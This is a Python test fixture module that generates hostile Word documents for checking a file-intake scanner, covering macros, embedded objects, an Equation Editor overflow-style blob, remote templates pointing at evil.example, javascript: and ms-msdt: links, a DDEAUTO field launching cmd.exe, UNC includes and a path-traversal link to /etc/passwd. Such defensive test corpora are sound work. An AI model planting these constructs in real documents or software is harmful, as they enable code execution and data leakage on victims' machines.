"""Word documents with something at work in them: macros, objects, remote parts, DDE."""

from __future__ import annotations

from collections.abc import Iterator

from tests.intake.gate_corpus import compound, images
from tests.intake.gate_corpus.case import Case
from tests.intake.gate_corpus.compound import clsid, word_streams
from tests.intake.gate_corpus.office import (
    HEAD,
    WORD,
    Parts,
    docx_parts,
    odf_parts,
    packed,
    relationships,
    xlsx_parts,
)
from tests.intake.gate_corpus.payloads import (
    HOST,
    MACROS,
    PACKAGE,
    PROGRAM,
    PROJECT,
)


def cases(host: str = HOST) -> Iterator[Case]:
    """Every one; `host` is whom remote parts would be asked for."""
    yield from _active(host)
    yield from _objects(host)
    yield from _remote(host)
    yield from _clicked(host)
    yield from _fields(host)
    yield from _inside(host)


def _docx(title: str, code: str, parts: Parts) -> Case:
    return Case("bad docx", title, f"{title}.docx", packed(parts), code)


def _field(*codes: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def _active(host: str) -> Iterator[Case]:
    macro = f"{WORD.replace('openxmlformats-officedocument.wordprocessingml', 'ms-word')}.document.macroEnabled.main+xml"

    yield _docx("docm renamed", "MACRO", {**docx_parts(main=macro), **PROJECT})
    yield _docx("macros under an honest type", "MACRO", {**docx_parts(), **PROJECT})
    other = docx_parts(
        links=[
            ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "media/a.bin", "")
        ]
    )
    yield _docx("macros under another name", "MACRO", {**other, "word/media/a.bin": MACROS})
    yield _docx(
        "macros as an object", "MACRO", {**docx_parts(), "word/embeddings/oleObject1.bin": MACROS}
    )
    yield _docx(
        "ActiveX control", "ACTIVE_CONTROL", {**docx_parts(), "word/activeX/activeX1.bin": b"x"}
    )
    control = docx_parts(links=[("control", "controls/a.xml", "")])
    yield _docx(
        "control by its link", "ACTIVE_CONTROL", {**control, "word/controls/a.xml": HEAD + b"<a/>"}
    )
    yield _docx(
        "packaged program",
        "EMBEDDED_OBJECT",
        {**docx_parts(), "word/embeddings/oleObject1.bin": PACKAGE},
    )
    flash = compound.compound({"CONTENTS": b"x"}, clsid("D27CDB6E-AE6D-11CF-96B8-444553540000"))
    yield _docx(
        "Flash object", "EMBEDDED_OBJECT", {**docx_parts(), "word/embeddings/oleObject1.bin": flash}
    )


def _objects(host: str) -> Iterator[Case]:
    exploit = (
        b"\x1c\0\0\0\2\0\0\0"
        + (90).to_bytes(4, "little")
        + bytes(16)
        + b"\3\1\1\3\x0a\x0a\x08\x5a\x5a"[:7]
        + b"\x08\1\0"
        + b"A" * 80
    )
    equation = compound.compound(
        {"Equation Native": exploit}, clsid("0002CE02-0000-0000-C000-000000000046")
    )
    yield _docx(
        "equation with a long font",
        "EMBEDDED_OBJECT",
        {**docx_parts(), "word/embeddings/oleObject1.bin": equation},
    )
    run = compound.compound({"Package": PROGRAM})
    yield _docx(
        "program in an object",
        "EXECUTABLE",
        {**docx_parts(), "word/embeddings/oleObject1.bin": run},
    )
    yield _docx(
        "damaged object",
        "DAMAGED",
        {**docx_parts(), "word/embeddings/oleObject1.bin": compound.MAGIC + bytes(600)},
    )


def _remote(host: str) -> Iterator[Case]:
    targets = (
        ("attachedTemplate", f"{host}.dotm"),
        ("image", f"{host}.png"),
        ("image", "\\\\evil.example\\share\\a.png"),
        ("oleObject", f"mhtml:{host}!x-usc:{host}"),
        ("frame", f"{host}.htm"),
        ("subDocument", "file://evil.example/share/a.docx"),
        ("video", host),
        ("attachedTemplate", "file:////evil.example/share/t.dotm"),
        ("attachedTemplate", "file:///%5C%5Cevil.example/share/t.dotm"),
        ("attachedTemplate", "ftp://evil.example/t.dotm"),
    )
    for number, (kind, target) in enumerate(targets, 1):
        yield _docx(
            f"remote {kind} {number}",
            "REMOTE_CONTENT",
            docx_parts(links=[(kind, target, "External")]),
        )
    settings = {
        **docx_parts(),
        "word/_rels/settings.xml.rels": relationships(
            [("attachedTemplate", f"{host}.dotm", "External")]
        ),
    }
    yield _docx("remote template in the settings", "REMOTE_CONTENT", settings)
    yield _docx(
        "remote part that says it is inside",
        "REMOTE_CONTENT",
        docx_parts(links=[("image", f"{host}.png", "")]),
    )


def _clicked(host: str) -> Iterator[Case]:
    for number, target in enumerate(
        (
            "javascript:alert(1)",
            "vbscript:x",
            "ms-msdt:/id x",
            " java\tscript:alert(1)",
            "search-ms:query=x",
        ),
        1,
    ):
        yield _docx(
            f"link that runs {number}",
            "DANGEROUS_LINK",
            docx_parts(links=[("hyperlink", target.replace("\t", "&#9;"), "External")]),
        )
    for name in ("afchunk.html", "afchunk.mht", "afchunk.xhtml"):
        alt = docx_parts('<w:altChunk r:id="rId4"/>', links=[("aFChunk", name, "")])
        yield _docx(
            f"page of the web as {name}",
            "EMBEDDED_OBJECT",
            {**alt, f"word/{name}": b"<html><script>x</script></html>"},
        )
    yield _docx(
        "DDE field",
        "DDE_LINK",
        docx_parts(_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
    )
    yield _docx("DDE field in pieces", "DDE_LINK", docx_parts(_field(" DD", "E", ' cmd "x"')))
    yield _docx(
        "DDE in a simple field", "DDE_LINK", docx_parts('<w:fldSimple w:instr=" dde cmd x "/>')
    )
    nested = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE </w:instrText></w:r>'
        + _field(" DDE cmd x")[5:]
    )
    yield _docx("DDE in a nested field", "DDE_LINK", docx_parts(nested))


def _fields(host: str) -> Iterator[Case]:
    yield _docx(
        "remote picture in a field",
        "REMOTE_CONTENT",
        docx_parts(_field(f' INCLUDEPICTURE "{host}" \\d')),
    )
    yield _docx(
        "remote text in a field",
        "REMOTE_CONTENT",
        docx_parts(_field(' INCLUDETEXT "\\\\\\\\evil.example\\\\a\\\\b.docx"')),
    )
    yield _docx(
        "path upwards in a link",
        "ARCHIVE_PATH",
        docx_parts(links=[("image", "../../../etc/passwd", "")]),
    )
    yield _docx("secret", "SECRET_MARK", docx_parts(lines=["UBND TỈNH", "TUYỆT MẬT", "Kế hoạch"]))
    yield _docx(
        "secret in decomposed letters",
        "SECRET_MARK",
        docx_parts(lines=["DO\u0323\u0302 x", "MA\u0323\u0302T"]),
    )
    inner = {**docx_parts(), **PROJECT}
    yield _docx("docm inside", "MACRO", {**docx_parts(), "word/embeddings/a.docx": packed(inner)})
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>x</script></svg>'
    yield _docx("script in a drawing", "SCRIPT", {**docx_parts(), "word/media/image1.svg": svg})
    remote = f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"><image x:href="{host}"/></svg>'
    yield _docx(
        "remote picture in a drawing",
        "REMOTE_CONTENT",
        {**docx_parts(), "word/media/image1.svg": remote.encode()},
    )
    flood = images.png(60_000, 60_000, images.rows(10, 10))
    yield _docx(
        "pixel flood inside", "IMAGE_BOMB", {**docx_parts(), "word/media/image1.png": flood}
    )
    yield _docx("xlsx as docx", "KIND_MISMATCH", xlsx_parts())
    yield _docx("template as docx", "KIND_MISMATCH", docx_parts(main=f"{WORD}.template.main+xml"))
    yield _docx("odt as docx", "KIND_MISMATCH", odf_parts())


def _inside(host: str) -> Iterator[Case]:
    nothing = docx_parts()
    del nothing["word/document.xml"]
    yield _docx("without its main part", "KIND_MISMATCH", nothing)
    nothing = docx_parts()
    del nothing["[Content_Types].xml"]
    yield _docx("without its types", "DAMAGED", nothing)
    locked = compound.compound({"EncryptedPackage": b"x" * 5000, "EncryptionInfo": b"x"})
    yield Case("bad docx", "with a password", "p.docx", locked, "ENCRYPTED")
    yield Case(
        "bad docx", "doc as docx", "d.docx", compound.compound(word_streams()), "KIND_MISMATCH"
    )
